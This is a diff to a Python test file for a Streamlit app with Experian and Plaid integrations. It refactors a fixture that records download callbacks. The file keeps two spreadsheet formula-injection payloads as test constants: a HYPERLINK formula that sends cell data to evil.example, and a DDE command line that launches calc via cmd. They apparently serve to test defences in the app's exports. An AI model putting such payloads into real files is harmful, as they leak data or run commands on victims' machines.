@@ -19,7 +19,6 @@ from typing import Any
 import pandas as pd
 import pytest
 import responses
-from streamlit.runtime.media_file_manager import MediaFileManager
 from streamlit.testing.v1 import AppTest
 
 from integrations.demo.experian import experian_demo_report
@@ -29,6 +28,7 @@ from tests.support.apps import ROOT
 from tests.support.clock import TODAY
 from tests.support.experian_support import answer_with_report, seeded
 from tests.support.plaid_double import PlaidDouble
+from tests.support.streamlit_internals import record_deferred_downloads
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"x")'
 COMMAND = "@SUM(1+1)*cmd|' /C calc'!A0"
@@ -191,18 +191,7 @@ def formula_upstreams(
 @pytest.fixture
 def deferred_downloads(monkeypatch: pytest.MonkeyPatch) -> dict[str, Callable[[], Any]]:
     """What each download button hands Streamlit to run on a click, by its file id."""
-    registered: dict[str, Callable[[], Any]] = {}
-    original = MediaFileManager.add_deferred
-
-    def record(
-        self: MediaFileManager, data_callable: Callable[[], Any], *args: Any, **kw: Any
-    ) -> str:
-        file_id = original(self, data_callable, *args, **kw)
-        registered[file_id] = data_callable
-        return file_id
-
-    monkeypatch.setattr(MediaFileManager, "add_deferred", record)
-    return registered
+    return record_deferred_downloads(monkeypatch)
 
 
 def clicked_downloads(at: AppTest, registered: dict[str, Callable[[], Any]]) -> dict[str, bytes]:
